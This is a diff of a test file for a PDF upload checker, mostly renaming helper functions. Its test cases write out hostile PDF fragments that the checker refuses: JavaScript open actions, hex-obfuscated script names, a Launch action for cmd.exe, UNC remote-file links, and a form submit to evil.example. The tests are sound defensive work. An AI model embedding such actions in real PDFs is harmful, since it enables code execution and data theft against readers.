@@ -1,8 +1,8 @@
 import { describe, expect, test } from 'vitest'
 import { documentFiles } from '#schemas/files/upload-kinds.ts'
-import { compressed, pdfWith, pdfWithObjects } from '../support/attacking-files.ts'
+import { compressedObject, pdfWithCatalog, pdfWithObjects } from '../support/attacking-files.ts'
+import { judgeBytes } from '../support/judge-bytes.ts'
 import { updatedPdf } from '../support/upload-files.ts'
-import { verdictOn } from '../support/verdicts.ts'
 
 /** PDFs that would start or fetch something at their reader's are refused with the reason. */
 
@@ -14,7 +14,7 @@ describe('a PDF is refused', () => {
   const strange =
     'A link in this PDF goes somewhere other than the web, an email address or the document itself.'
   const action = (value: string) => `5 0 obj\n<< ${value} >>\nendobj\n`
-  const opening = (...objects: string[]) => pdfWith('/OpenAction 5 0 R', ...objects)
+  const opening = (...objects: string[]) => pdfWithCatalog('/OpenAction 5 0 R', ...objects)
   const linked = (value: string) =>
     pdfWithObjects(`4 0 obj\n[<< /Subtype /Link /A << ${value} >> >>]\nendobj\n`)
 
@@ -27,10 +27,10 @@ describe('a PDF is refused', () => {
     ['that writes its names in numbers', opening(action('/S /J#61vaScript /J#53 (a)')), scripts],
     [
       'that runs a script in its catalog',
-      pdfWith('/OpenAction << /S /JavaScript /JS (a) >>'),
+      pdfWithCatalog('/OpenAction << /S /JavaScript /JS (a) >>'),
       scripts,
     ],
-    ['that names scripts', pdfWith('/Names << /JavaScript 5 0 R >>'), scripts],
+    ['that names scripts', pdfWithCatalog('/Names << /JavaScript 5 0 R >>'), scripts],
     ['that launches a program', opening(action('/S /Launch /F (cmd.exe)')), starting],
     [
       'that launches one after a page',
@@ -44,10 +44,14 @@ describe('a PDF is refused', () => {
       ),
       starting,
     ],
-    ['whose action is compressed', opening(compressed(5, '<< /S /JavaScript /JS (a) >>')), scripts],
+    [
+      'whose action is compressed',
+      opening(compressedObject(5, '<< /S /JavaScript /JS (a) >>')),
+      scripts,
+    ],
     [
       'whose catalog is compressed',
-      pdfWithObjects(compressed(5, '<< /Names << /EmbeddedFiles 6 0 R >> >>')),
+      pdfWithObjects(compressedObject(5, '<< /Names << /EmbeddedFiles 6 0 R >> >>')),
       files,
     ],
     [
@@ -62,7 +66,7 @@ describe('a PDF is refused', () => {
     ],
     [
       'that has the key twice',
-      pdfWith('/OpenAction [3 0 R /Fit] /OpenAction << /S /Launch >>'),
+      pdfWithCatalog('/OpenAction [3 0 R /Fit] /OpenAction << /S /Launch >>'),
       starting,
     ],
     ['whose action is replaced', updatedPdf(opening(action('/S /Launch'))), starting],
@@ -81,13 +85,13 @@ describe('a PDF is refused', () => {
       pdfWithObjects('4 0 obj\n[<< /Subtype /FileAttachment >>]\nendobj\n'),
       files,
     ],
-    ['that is a portfolio', pdfWith('/Collection << >>'), files],
+    ['that is a portfolio', pdfWithCatalog('/Collection << >>'), files],
     ['that opens another document', linked('/S /GoToR /F (\\\\\\\\host\\\\a.pdf)'), starting],
     ['that names a file', pdfWithObjects(action('/Length 0 /F (\\\\\\\\host\\\\a)')), starting],
     ['that sends what is filled in', linked('/S /SubmitForm /F (https://evil.example)'), starting],
     [
       'with a form with scripts',
-      pdfWith('/AcroForm << /XFA 5 0 R >>'),
+      pdfWithCatalog('/AcroForm << /XFA 5 0 R >>'),
       'This PDF contains a form with scripts (XFA).',
     ],
     ['with a film', pdfWithObjects('4 0 obj\n[<< /Subtype /RichMedia >>]\nendobj\n'), film],
@@ -107,6 +111,6 @@ describe('a PDF is refused', () => {
       "This PDF is built in a way we can't check.",
     ],
   ])('%s', async (_, bytes, reason) => {
-    expect(await verdictOn(bytes)).toEqual([documentFiles.only, reason])
+    expect(await judgeBytes(bytes)).toEqual([documentFiles.only, reason])
   })
 })
